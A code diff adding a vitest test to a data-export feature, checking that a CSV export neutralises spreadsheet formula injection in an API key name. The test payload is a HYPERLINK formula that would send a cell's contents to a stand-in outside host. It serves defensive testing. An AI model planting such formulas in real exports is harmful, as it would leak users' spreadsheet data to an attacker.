@@ -2,6 +2,7 @@ import { buffer } from 'node:stream/consumers';
 import { eq, getTableName } from 'drizzle-orm';
 import { beforeAll, expect, test } from 'vitest';
 import { database } from '#db/client';
+import { apiKeys } from '#db/schema/people';
 import { personalExports } from '#db/schema/privacy';
 import { forgetExports } from '#lib/privacy/export/forget-exports';
 import { getOwnExport, readOwnExport, startOwnExport } from '#lib/privacy/export/own-export';
@@ -61,6 +62,15 @@ test('the archive has each table as JSON and CSV, and every file, of that person
   );
   expect(JSON.stringify(files)).not.toContain('QzSomebodyElseQz');
   expect(JSON.stringify(files)).not.toContain(bob.id);
+});
+
+test('a table computes nothing of what somebody called a thing', async () => {
+  const name = '=HYPERLINK("https://elsewhere.example?"&A1)';
+  await db.update(apiKeys).set({ name }).where(eq(apiKeys.userId, ada.id));
+  const { id } = await startOwnExport(ada.ctx);
+  const files = await archiveOf(id);
+  expect(JSON.parse(files['data/api_keys.json']!)).toMatchObject([{ name }]);
+  expect(files['data/api_keys.csv']).toContain(`"'=HYPERLINK(`);
 });
 
 test('no secret and no hash of one is in the archive', async () => {
